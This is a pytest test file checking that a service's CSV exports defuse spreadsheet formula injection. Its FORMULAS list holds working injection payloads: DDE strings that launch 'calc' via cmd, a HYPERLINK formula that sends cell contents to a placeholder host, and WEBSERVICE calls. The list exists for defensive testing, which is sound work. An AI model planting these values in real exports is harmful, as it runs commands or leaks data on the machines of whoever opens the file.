"""Texts that a spreadsheet would take for formulas, in every table that the service writes.

Source: OWASP, CSV Injection (cells that begin with = + - @ tab or carriage return); CWE-1236.
"""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from injected import BILL, PLAIN, PLAN, naughty_bodies, request_body

from drawn_requests import client
from loomwright.documents.options import KINDS
from loomwright.web.schemas.batch import batch_examples

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"total")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    'x";=1+1;"',
    "x;=1+1",
    "x|=1+1",
    "'=1+1",
    '"=1+1',
    "%0A=1+1",
)
TABLE = "text/csv"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def check(table: bytes) -> list[str]:
    """Return the cells of a table, none of which a program takes for a formula."""
    text = table.decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), strict=True) for cell in row]
    for cell in cells:
        assert is_number(cell) or not cell.lstrip(" \u00a0").startswith(STARTS), cell
        assert not set("\t\r\n\0") & set(cell), cell
    for delimiter in (";", "\t", "|"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert is_number(cell) or not cell.lstrip(" \u00a0").startswith(STARTS), cell
    return cells


def table_of(path: str, body: dict) -> bytes:
    response = client().post(path, json=body, headers={"Accept": TABLE})
    assert response.status_code == 200, response.text[:2000]
    assert response.mimetype == TABLE
    return response.data


def test_bills() -> None:
    shape = len(check(table_of(BILL, request_body([PLAIN]))))
    for body in [*(request_body([text]) for text in FORMULAS), *naughty_bodies()]:
        assert len(check(table_of(BILL, body))) == shape


@pytest.mark.parametrize("kind", KINDS)
def test_plans(kind: str) -> None:
    wanted = {"document": {"kind": kind}}
    shape = len(check(table_of(PLAN, request_body([PLAIN]) | wanted)))
    for text in FORMULAS:
        cells = check(table_of(PLAN, request_body([text]) | wanted))
        assert len(cells) == shape
    for body in naughty_bodies(each=120):
        check(table_of(PLAN, body | wanted))


@pytest.mark.parametrize("text", FORMULAS)
def test_rows_of_a_batch(text: str) -> None:
    """Keys of packages and vehicles are the caller's; so is what a fault repeats of them."""
    batch = batch_examples()["every_package_for_every_vehicle"]
    batch = {**batch, "pairs": [{"package": text, "vehicle": text}]}
    for name in ("packages", "vehicles"):
        first, *others = batch[name]
        batch[name] = [{**first, "key": text}, *others]
    for body in (batch, {**batch, "vehicles": [{**batch["vehicles"][0], text: text}]}):
        response = client().post("/v1/price-packages?as=csv", json=body)
        assert response.status_code == 200, response.text
        cells = check(response.data)
        assert any(text[-3:] in cell for cell in cells)


def test_what_is_wrong_with_a_query() -> None:
    """The line of an error goes into a cell, and repeats what was asked for."""
    for text in FORMULAS:
        for name in ("series", "load_current", "field", text):
            response = client().get("/v1/size-conductor", query_string={"as": "csv", name: text})
            assert response.mimetype == TABLE
            check(response.data)
